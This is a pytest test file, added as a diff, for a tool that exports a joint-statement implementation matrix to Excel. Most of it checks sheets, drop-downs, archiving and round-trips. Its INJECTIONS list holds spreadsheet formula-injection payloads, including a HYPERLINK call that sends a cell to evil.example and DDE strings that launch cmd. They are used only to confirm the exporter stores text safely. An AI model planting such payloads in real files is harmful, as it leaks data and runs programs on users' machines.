@@ -1,0 +1,642 @@
+"""The Excel implementation matrix (``--format xlsx``): every test writes a real
+workbook and reopens it with openpyxl (or reads its zip) to check what a desk
+officer would see, and what survives a regeneration."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import zipfile
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import openpyxl
+import pytest
+from jtreport.digest import digest, milestones
+from jtreport.errors import ExportError
+from jtreport.exporting import export_to_path
+from jtreport.followup import MINISTRY_COLUMNS, STATUSES, FollowUp, read_followup
+from jtreport.formats import ExportOptions
+from jtreport.model import (
+    Area,
+    DateMention,
+    Item,
+    Paragraph,
+    Party,
+    Person,
+    Source,
+    Statement,
+)
+from jtreport.plugins.exporters.xlsx_matrix import XlsxExporter
+from jtreport.plugins.exporters.xlsx_matrix.layout import HEADERS, sheet_name
+
+CREATED = datetime(2026, 1, 15, 10, 30)
+HEADER_ROW = 3
+FIRST_ROW = 4
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTab-led text",
+    "\rCarriage-return-led text",
+    "#N/A",
+)
+
+
+# Building and opening ---------------------------------------------------------------
+
+
+def item(item_id: str, area: str | None, text: str, **fields: Any) -> Item:
+    """An item with sensible defaults."""
+    paragraph = fields.pop("paragraph", None)
+    if paragraph is None and item_id[0].isdigit():
+        paragraph = int(item_id.split(".")[0])
+    return Item(
+        id=item_id,
+        paragraph=paragraph,
+        area_id=area,
+        text=text,
+        actors=fields.pop("actors", ["both"]),
+        verb=fields.pop("verb", "welcomed"),
+        category=fields.pop("category", "welcome"),
+        is_commitment=fields.pop("is_commitment", False),
+        **fields,
+    )
+
+
+def hand_statement(extra: tuple[Item, ...] = ()) -> Statement:
+    """A small statement with every category, future and past dates, Unicode
+    names, hostile texts and a text longer than an Excel cell holds."""
+    areas = [
+        Area(id="green", heading="Green Economy and Resilience", description="Climate measures"),
+        Area(id="links", heading="Connectivity: Enhancing logistics and transport"),
+        Area(id="people", heading="Human Resource and Social System Development [HR/Social]"),
+        Area(id="other", heading="Cooperation in other fields"),
+    ]
+    items = [
+        item(
+            "pre1.1",
+            None,
+            "The two Leaders concurred on promoting concrete projects.",
+            category="agreement",
+            is_commitment=True,
+            verb="concurred on",
+        ),
+        item(
+            "1.1",
+            "green",
+            "Japan will provide support to the energy transition roadmap.",
+            category="pledge",
+            is_commitment=True,
+            actors=["Japan"],
+            verb="will provide",
+            organizations=["JICA"],
+            instruments=["grant"],
+            dates=[DateMention(text="May 2026", value="2026-05", future=True)],
+        ),
+        item(
+            "1.2",
+            "green",
+            "Both sides welcomed the signing in September 2023.",
+            dates=[DateMention(text="September 2023", value="2023-09", future=False)],
+        ),
+        item(
+            "2.1",
+            "green",
+            "Both sides appreciated the conference held in 2025.",
+            category="appreciation",
+        ),
+        item(
+            "16.2",
+            "links",
+            "Both sides concurred on launching the Consultations.",
+            category="agreement",
+            is_commitment=True,
+            projects=["Trans-Caspian Route"],
+        ),
+        item(
+            "16.3",
+            "links",
+            "Both sides expressed their intention to work together.",
+            category="intention",
+            is_commitment=True,
+        ),
+        item(
+            "20.1",
+            "people",
+            "Both sides affirmed the importance of Эмомалӣ Раҳмон's "
+            "initiative and of 高市早苗's visit.",
+            category="affirmation",
+        ),
+        item("21.1", "people", "x" * 40_000, category="affirmation"),
+        item("22.1", "people", "Control\x01characters\x0bremoved.", category="welcome"),
+        *(
+            item(f"30.{n}", "people", text, category="welcome")
+            for n, text in enumerate(INJECTIONS, 1)
+        ),
+        item(
+            "39.1",
+            "other",
+            "President Эмомалӣ Раҳмон extended an invitation to Prime Minister 高市早苗.",
+            category="invitation",
+            is_commitment=True,
+            actors=["Tajikistan"],
+        ),
+        *extra,
+    ]
+    paragraphs = sorted({i.paragraph for i in items if i.paragraph is not None})
+    by_number = {i.paragraph: i.area_id for i in items}
+    return Statement(
+        title="Joint Statement between Japan and the Republic of Tajikistan",
+        date="2025-12-20",
+        place="Tokyo",
+        parties=[
+            Party(name="Japan", short_name="Japan"),
+            Party(name="Republic of Tajikistan", short_name="Tajikistan"),
+        ],
+        leaders=[
+            Person(name="高市早苗", title="Prime Minister", party="Japan"),
+            Person(name="Эмомалӣ Раҳмон", title="President", party="Tajikistan"),
+        ],
+        areas=areas,
+        paragraphs=[
+            Paragraph(index=k, number=n, text=f"Paragraph {n}.", area_id=by_number[n])
+            for k, n in enumerate(paragraphs, 1)
+        ],
+        items=items,
+        source=Source(path="hand.txt", format="text", sha256="0" * 64),
+    )
+
+
+def export(statement: Statement, target: Path, **options: Any) -> tuple[Path, list[str]]:
+    """Export through the core (atomic write, overwrite check); the path and warnings."""
+    opts = ExportOptions(destination=target, created=CREATED, **options)
+    export_to_path(XlsxExporter(), statement, opts)
+    return target, opts.warnings
+
+
+def headers(ws: Any) -> list[str]:
+    """The header row of a data sheet."""
+    return [c.value for c in ws[HEADER_ROW] if c.value is not None]
+
+
+def rows_by_id(ws: Any) -> dict[str, dict[str, Any]]:
+    """Data rows keyed by item ID, each as {header: value}."""
+    names = headers(ws)
+    found: dict[str, dict[str, Any]] = {}
+    for row in ws.iter_rows(min_row=FIRST_ROW, values_only=True):
+        if row[0] is not None:
+            found[str(row[0])] = dict(zip(names, row, strict=False))
+    return found
+
+
+def cell_of(ws: Any, item_id: str, header: str) -> Any:
+    """The cell of one item's column."""
+    column = headers(ws).index(header) + 1
+    for row in range(FIRST_ROW, ws.max_row + 1):
+        if ws.cell(row=row, column=1).value == item_id:
+            return ws.cell(row=row, column=column)
+    raise AssertionError(f"{item_id} is not on {ws.title}")
+
+
+@pytest.fixture(scope="module")
+def bundled_matrix(tmp_path_factory: pytest.TempPathFactory, bundled: Statement) -> Path:
+    """The bundled statement's matrix, written once."""
+    path, _ = export(bundled, tmp_path_factory.mktemp("bundled") / "matrix.xlsx")
+    return path
+
+
+@pytest.fixture(scope="module")
+def bundled_book(bundled_matrix: Path) -> Any:
+    return openpyxl.load_workbook(bundled_matrix)
+
+
+@pytest.fixture(scope="module")
+def hand_matrix(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
+    return export(hand_statement(), tmp_path_factory.mktemp("hand") / "hand.xlsx")
+
+
+# Sheets and columns -----------------------------------------------------------------
+
+
+def test_bundled_sheets_follow_the_statement(bundled_book: Any, bundled: Statement) -> None:
+    names = bundled_book.sheetnames
+    assert names[0] == "Summary"
+    assert len(bundled.areas) == 4
+    assert names[1:5] == [sheet_name(a.heading, set()) for a in bundled.areas]
+    assert names[4] == "Cooperation in other fields"
+    assert names[5] == "All items"
+    assert bundled_book["_jtreport"].sheet_state == "veryHidden"
+    assert [ws.sheet_state for ws in bundled_book.worksheets[:6]] == ["visible"] * 6
+
+
+def test_every_data_sheet_has_the_columns(bundled_book: Any) -> None:
+    expected = [
+        "ID",
+        "Paragraph",
+        "Area",
+        "Text",
+        "Actors",
+        "Category",
+        "Commitment",
+        "Organisations",
+        "Instruments",
+        "Projects",
+        "Dates",
+        *MINISTRY_COLUMNS,
+    ]
+    assert list(HEADERS) == expected
+    for ws in bundled_book.worksheets[1:6]:
+        assert headers(ws) == expected, ws.title
+        assert all(c.font.b for c in ws[HEADER_ROW][: len(expected)])
+
+
+def test_every_item_id_is_on_all_items_and_its_area_sheet(
+    bundled_book: Any, bundled: Statement
+) -> None:
+    all_items = bundled_book["All items"]
+    ids = [r[0] for r in all_items.iter_rows(min_row=FIRST_ROW, values_only=True)]
+    assert ids == [i.id for i in bundled.items]
+    for area, ws in zip(bundled.areas, bundled_book.worksheets[1:5], strict=True):
+        on_sheet = [r[0] for r in ws.iter_rows(min_row=FIRST_ROW, values_only=True)]
+        assert on_sheet == [i.id for i in bundled.items_in(area.id)], ws.title
+
+
+def test_item_rows_say_what_the_model_says(bundled_book: Any, bundled: Statement) -> None:
+    rows = rows_by_id(bundled_book["All items"])
+    for it in bundled.items:
+        row = rows[it.id]
+        assert row["Text"] == it.text
+        assert row["Paragraph"] == it.paragraph
+        assert row["Category"] == it.category.capitalize()
+        assert row["Commitment"] == ("Yes" if it.is_commitment else "No")
+        for name, values in (("Organisations", it.organizations), ("Projects", it.projects)):
+            assert all(v in (row[name] or "") for v in values)
+        for mention in it.dates:
+            assert mention.text in row["Dates"]
+            assert (f"→ {mention.text}" in row["Dates"]) == bool(mention.future)
+        assert all(row[c] is None for c in MINISTRY_COLUMNS)
+
+
+def test_status_is_a_drop_down_over_the_vocabulary(bundled_book: Any) -> None:
+    for ws in bundled_book.worksheets[1:6]:
+        status = openpyxl.utils.get_column_letter(headers(ws).index("Status") + 1)
+        lists = [v for v in ws.data_validations.dataValidation if v.type == "list"]
+        assert len(lists) == 1
+        choices = lists[0]
+        assert choices.formula1.strip('"').split(",") == list(STATUSES)
+        assert choices.showErrorMessage and choices.errorStyle in (None, "stop")
+        last = ws.max_row
+        assert f"{status}{FIRST_ROW}" in choices.sqref
+        assert f"{status}{last}" in choices.sqref
+
+
+def test_status_colours_overdue_and_commitment_highlight(bundled_book: Any) -> None:
+    ws = bundled_book["All items"]
+    rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
+    colours = {r.formula[0].strip('"') for ref, r in rules if r.type == "cellIs"}
+    assert colours == set(STATUSES)
+    due = openpyxl.utils.get_column_letter(headers(ws).index("Due date") + 1)
+    overdue = [r for ref, r in rules if ref.startswith(due) and r.type == "expression"]
+    assert overdue and "TODAY()" in overdue[0].formula[0]
+    assert '"Completed"' in overdue[0].formula[0] and '"Cancelled"' in overdue[0].formula[0]
+    highlight = [r for ref, r in rules if ref.startswith("A") and '="Yes"' in r.formula[0]]
+    assert highlight, "commitment rows are not highlighted"
+
+
+def test_frozen_header_table_and_print_setup(bundled_book: Any) -> None:
+    for ws in bundled_book.worksheets[1:6]:
+        assert ws.freeze_panes == f"B{FIRST_ROW}"
+        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
+        assert ws.page_setup.orientation == "landscape"
+        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
+        assert ws.sheet_properties.pageSetUpPr.fitToPage
+        (table,) = ws.tables.values()
+        assert table.ref == f"A{HEADER_ROW}:Q{ws.max_row}"
+        assert [c.name for c in table.tableColumns] == list(HEADERS)
+        assert ws.column_dimensions["D"].width >= 40  # the text column
+        long_text = [c for c in ws["D"][FIRST_ROW - 1 :] if c.value and len(c.value) > 200]
+        assert all(c.alignment.wrap_text for c in long_text)
+        assert all(ws.row_dimensions[c.row].height > 30 for c in long_text)
+
+
+def test_due_dates_are_formatted_as_dates(bundled_book: Any) -> None:
+    ws = bundled_book["All items"]
+    due = headers(ws).index("Due date")
+    assert ws.cell(row=FIRST_ROW, column=due + 1).number_format == "yyyy-mm-dd"
+
+
+def test_summary_sheet(bundled_book: Any, bundled: Statement) -> None:
+    ws = bundled_book["Summary"]
+    values = [c for row in ws.iter_rows(values_only=True) for c in row if c is not None]
+    assert values[0] == bundled.title
+    assert datetime(2025, 12, 20) in values
+    assert any("Republic of Tajikistan" in str(v) for v in values)
+    assert any("TAKAICHI" in str(v) for v in values)
+    rows = [list(r) for r in ws.iter_rows(values_only=True)]
+    for group in digest(bundled):
+        (row,) = [r for r in rows if r[0] == group.label and isinstance(r[1], int)]
+        assert row[1:4] == [group.paragraphs, len(group.items), len(group.commitments)]
+    (total,) = [r for r in rows if r[0] == "Whole statement"]
+    assert total[1:4] == [len(bundled.paragraphs), len(bundled.items), len(bundled.commitments)]
+    upcoming = milestones(bundled)
+    assert upcoming
+    for milestone in upcoming:
+        assert [milestone.date.text, milestone.date.value, milestone.item.id] in [
+            r[:3] for r in rows
+        ]
+    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert any("COUNTIFS('All items'!" in c.value for c in formulas)
+
+
+def test_workbook_properties(bundled_book: Any, bundled: Statement) -> None:
+    props = bundled_book.properties
+    assert props.title == bundled.title
+    assert "Implementation matrix" in props.subject
+    assert "implementation matrix" in props.keywords and "Japan" in props.keywords
+    assert props.created == CREATED and props.modified == CREATED
+
+
+# Safe cells --------------------------------------------------------------------------
+
+
+def test_statement_text_is_never_a_formula(hand_matrix: tuple[Path, list[str]]) -> None:
+    path, _ = hand_matrix
+    book = openpyxl.load_workbook(path)
+    for ws in (book["All items"], book["Human Resource and Social…"]):
+        for number, text in enumerate(INJECTIONS, 1):
+            cell = cell_of(ws, f"30.{number}", "Text")
+            assert cell.data_type == "s", (ws.title, text)
+            assert cell.value == text
+            if text[0] in "=+-@\t\r":
+                assert cell.quotePrefix, text
+    with zipfile.ZipFile(path) as archive:
+        for entry in archive.namelist():
+            if entry.startswith("xl/worksheets/sheet") and entry != "xl/worksheets/sheet1.xml":
+                assert b"<f>" not in archive.read(entry), entry
+
+
+def test_cells_respect_excel_limits(hand_matrix: tuple[Path, list[str]]) -> None:
+    path, warnings = hand_matrix
+    book = openpyxl.load_workbook(path)
+    ws = book["All items"]
+    long_cell = cell_of(ws, "21.1", "Text").value
+    assert len(long_cell) == 32_767 and long_cell.endswith("[…]")
+    assert any("32,767" in w for w in warnings)
+    assert cell_of(ws, "22.1", "Text").value == "Controlcharactersremoved."
+    assert "Эмомалӣ Раҳмон" in cell_of(ws, "20.1", "Text").value
+    assert "高市早苗" in cell_of(ws, "39.1", "Text").value
+
+
+def test_sheet_names_are_valid_and_unique(hand_matrix: tuple[Path, list[str]]) -> None:
+    book = openpyxl.load_workbook(hand_matrix[0])
+    assert book.sheetnames[1:5] == [
+        "Green Economy and Resilience",
+        "Connectivity",
+        "Human Resource and Social…",
+        "Cooperation in other fields",
+    ]
+    taken: set[str] = set()
+    assert sheet_name("A: b", taken) == "A"
+    assert sheet_name("a", taken) == "a (2)"
+    assert sheet_name("x" * 40, taken) == "x" * 30 + "…"
+
+
+def test_same_input_same_bytes(tmp_path: Path) -> None:
+    first, _ = export(hand_statement(), tmp_path / "a.xlsx")
+    second, _ = export(hand_statement(), tmp_path / "b.xlsx")
+    assert first.read_bytes() == second.read_bytes()
+    with zipfile.ZipFile(first) as archive:
+        assert {i.date_time for i in archive.infolist()} == {(2026, 1, 15, 10, 30, 0)}
+    # ...also from another interpreter (hash seeds differ between processes)
+    code = (
+        "import sys; sys.path.insert(0, sys.argv[1]); from pathlib import Path;"
+        "from tests.test_xlsx import export, hand_statement;"
+        "export(hand_statement(), Path(sys.argv[2]))"
+    )
+    root = str(Path(__file__).resolve().parents[1])
+    subprocess.run([sys.executable, "-c", code, root, str(tmp_path / "c.xlsx")], check=True)
+    assert (tmp_path / "c.xlsx").read_bytes() == first.read_bytes()
+
+
+# The round trip ----------------------------------------------------------------------
+
+
+def fill(path: Path, entries: dict[tuple[str, str, str], Any]) -> None:
+    """Type values as a user would: {(sheet, item ID, header): value}; save."""
+    book = openpyxl.load_workbook(path)
+    for (sheet, item_id, header), value in entries.items():
+        ws = book[sheet]
+        if header not in headers(ws):
+            ws.cell(row=HEADER_ROW, column=len(headers(ws)) + 1, value=header)
+        cell = cell_of(ws, item_id, header)
+        cell.value = value
+        if isinstance(value, str) and value.startswith("="):
+            cell.data_type = "s"
+    book.save(path)
+
+
+def test_regenerating_keeps_every_typed_value(tmp_path: Path, bundled: Statement) -> None:
+    path, _ = export(bundled, tmp_path / "matrix.xlsx")
+    areas = openpyxl.load_workbook(path).sheetnames[1:5]
+    commitments = bundled.commitments
+    typed: dict[tuple[str, str, str], Any] = {}
+    for n, it in enumerate(commitments):
+        typed[("All items", it.id, "Status")] = STATUSES[n % len(STATUSES)]
+        typed[("All items", it.id, "Notes")] = f"Note on {it.id}: Эмомалӣ / 高市"
+        typed[("All items", it.id, "Lead agency")] = "MOFA"
+    first, second = commitments[0], commitments[1]
+    typed[("All items", first.id, "Due date")] = datetime(2026, 3, 31)
+    typed[("All items", second.id, "Due date")] = "Q2 2026"
+    typed[("All items", second.id, "Next step")] = "=call the embassy"
+    typed[("All items", first.id, "Desk officer")] = "Ms Sato"  # a column the user added
+    area_sheet = areas[[a.id for a in bundled.areas].index(bundled.items[-1].area_id)]
+    last = bundled.items[-1]
+    typed[(area_sheet, last.id, "Supporting agencies")] = "JICA"  # typed on an area sheet
+    fill(path, typed)
+
+    _, warnings = export(bundled, path)
+    assert warnings == []
+    book = openpyxl.load_workbook(path)
+    all_items = rows_by_id(book["All items"])
+    for (_, item_id, header), value in typed.items():
+        assert all_items[item_id][header] == value, (item_id, header)
+    on_area = rows_by_id(book[area_sheet])
+    assert on_area[last.id]["Supporting agencies"] == "JICA"
+    for sheet in areas:
+        for item_id, row in rows_by_id(book[sheet]).items():
+            assert row["Status"] == all_items[item_id]["Status"]
+    assert cell_of(book["All items"], second.id, "Next step").data_type == "s"
+    assert "Archived" not in book.sheetnames
+
+    # ...and a third time: still the same values, nothing archived
+    export(bundled, path)
+    assert rows_by_id(openpyxl.load_workbook(path)["All items"]) == all_items
+
+
+def test_removed_item_moves_to_archived(tmp_path: Path, bundled: Statement) -> None:
+    path, _ = export(bundled, tmp_path / "matrix.xlsx")
+    gone = bundled.commitments[0]
+    fill(
+        path,
+        {
+            ("All items", gone.id, "Status"): "Delayed",
+            ("All items", gone.id, "Notes"): "Waiting for the Exchange of Notes",
+            ("All items", gone.id, "Due date"): datetime(2026, 2, 1),
+        },
+    )
+    smaller = msgspec.structs.replace(bundled, items=[i for i in bundled.items if i != gone])
+    _, warnings = export(smaller, path)
+    assert any(gone.id in w and "Archived" in w for w in warnings)
+    book = openpyxl.load_workbook(path)
+    assert gone.id not in rows_by_id(book["All items"])
+    archived = rows_by_id(book["Archived"])
+    row = archived[gone.id]
+    assert row["Status"] == "Delayed"
+    assert row["Notes"] == "Waiting for the Exchange of Notes"
+    assert row["Due date"] == datetime(2026, 2, 1)
+    assert row["Text"] == gone.text
+    assert row["Archived on"] == datetime(2026, 1, 15)
+    assert "no longer" in row["Reason"]
+    # archived rows stay archived on the next regeneration
+    export(smaller, path)
+    assert rows_by_id(openpyxl.load_workbook(path)["Archived"])[gone.id]["Status"] == "Delayed"
+
+
+def test_conflicting_values_keep_all_items_and_archive_the_other(tmp_path: Path) -> None:
+    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
+    fill(
+        path,
+        {
+            ("All items", "16.2", "Status"): "Completed",
+            ("Connectivity", "16.2", "Status"): "Delayed",
+        },
+    )
+    _, warnings = export(hand_statement(), path)
+    assert any("16.2" in w and "differs" in w for w in warnings)
+    book = openpyxl.load_workbook(path)
+    assert rows_by_id(book["All items"])["16.2"]["Status"] == "Completed"
+    assert rows_by_id(book["Connectivity"])["16.2"]["Status"] == "Completed"
+    archived = rows_by_id(book["Archived"])["16.2"]
+    assert archived["Status"] == "Delayed" and "Conflicting" in archived["Reason"]
+
+
+def test_rows_without_id_and_user_sheets_are_kept(tmp_path: Path) -> None:
+    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
+    book = openpyxl.load_workbook(path)
+    ws = book["All items"]
+    ws.append([None] * 16 + ["A note typed below the table"])
+    contacts = book.create_sheet("Contacts")
+    contacts.append(["Name", "Phone"])
+    contacts.append(["Ms Sato", "+81 3 1234 5678"])
+    book.save(path)
+    export(hand_statement(), path)
+    book = openpyxl.load_workbook(path)
+    assert list(book["Contacts"].values) == [("Name", "Phone"), ("Ms Sato", "+81 3 1234 5678")]
+    notes = [r[9] for r in book["Archived"].iter_rows(min_row=FIRST_ROW, values_only=True)]
+    assert "A note typed below the table" in notes
+
+
+def test_status_seed_from_followup(tmp_path: Path) -> None:
+    seed = {"16.2": FollowUp(item_id="16.2", status="Ongoing", due_date=date(2026, 6, 30))}
+    path, _ = export(hand_statement(), tmp_path / "m.xlsx", followup=seed)
+    row = rows_by_id(openpyxl.load_workbook(path)["All items"])["16.2"]
+    assert row["Status"] == "Ongoing" and row["Due date"] == datetime(2026, 6, 30)
+
+
+def test_file_that_is_not_a_matrix_is_not_overwritten(tmp_path: Path) -> None:
+    other = tmp_path / "budget.xlsx"
+    book = openpyxl.Workbook()
+    book.active["A1"] = "my budget"
+    book.save(other)
+    before = other.read_bytes()
+    assert not XlsxExporter().recognizes(other)
+    with pytest.raises(ExportError, match="not written by jtreport"):
+        export(hand_statement(), other)
+    assert other.read_bytes() == before
+    export(hand_statement(), other, force=True)
+    assert XlsxExporter().recognizes(other)
+    text = tmp_path / "notes.xlsx"
+    text.write_text("not a workbook")
+    assert not XlsxExporter().recognizes(text)
+    assert not XlsxExporter().recognizes(tmp_path / "missing.xlsx")
+
+
+def test_users_file_is_untouched_when_regeneration_fails(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
+    fill(path, {("All items", "1.1", "Notes"): "precious"})
+    before = path.read_bytes()
+
+    def broken(*args: Any, **kwargs: Any) -> None:
+        raise RuntimeError("disk full")
+
+    from jtreport.plugins.exporters.xlsx_matrix import workbook
+
+    monkeypatch.setattr(workbook, "save_reproducibly", broken)
+    with pytest.raises(ExportError, match="disk full"):
+        export(hand_statement(), path)
+    assert path.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["matrix.xlsx"]
+
+
+def test_read_followup_sees_what_was_typed(tmp_path: Path) -> None:
+    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
+    fill(path, {("Connectivity", "16.3", "Status"): "In progress"})
+    record = read_followup(path)["16.3"]
+    assert record.status == "In progress"
+    assert not read_followup(path)["1.1"].status
+
+
+def test_a_long_statement_exports_whole(tmp_path: Path) -> None:
+    base = hand_statement()
+    items = [
+        item(
+            f"{p}.{n}",
+            base.areas[p % 4].id,
+            f"Paragraph {p} item {n}: both sides will act.",
+            category="pledge",
+            is_commitment=n == 1,
+            paragraph=p,
+            dates=[DateMention(text="2027", value="2027", future=True)],
+        )
+        for p in range(1, 3901)
+        for n in (1, 2)
+    ]
+    big = msgspec.structs.replace(base, items=items)
+    path, _ = export(big, tmp_path / "big.xlsx")
+    book = openpyxl.load_workbook(path, read_only=True)
+    ids = [r[0] for r in book["All items"].iter_rows(min_row=FIRST_ROW, values_only=True)]
+    assert ids == [i.id for i in items]
+    book.close()
+
+
+def test_paper_option(tmp_path: Path) -> None:
+    path, _ = export(hand_statement(), tmp_path / "a3.xlsx", extra={"paper": "A3"})
+    assert openpyxl.load_workbook(path)["All items"].page_setup.paperSize == 8
+    with pytest.raises(ExportError, match="paper"):
+        export(hand_statement(), tmp_path / "bad.xlsx", extra={"paper": "napkin"})
+
+
+def test_import_does_not_load_openpyxl() -> None:
+    code = (
+        "import sys; import jtreport.plugins.exporters.xlsx_matrix as m;"
+        "m.XlsxExporter(); print(sorted(k for k in sys.modules if k.startswith('openpyxl')))"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "[]"
+
+
+def test_command_line_writes_the_matrix(tmp_path: Path) -> None:
+    from click.testing import CliRunner
+    from jtreport.cli import main
+
+    result = CliRunner().invoke(main, ["--format", "xlsx", "-o", str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    (path,) = tmp_path.glob("*.xlsx")
+    assert XlsxExporter().recognizes(path)
+    assert "All items" in openpyxl.load_workbook(path, read_only=True).sheetnames
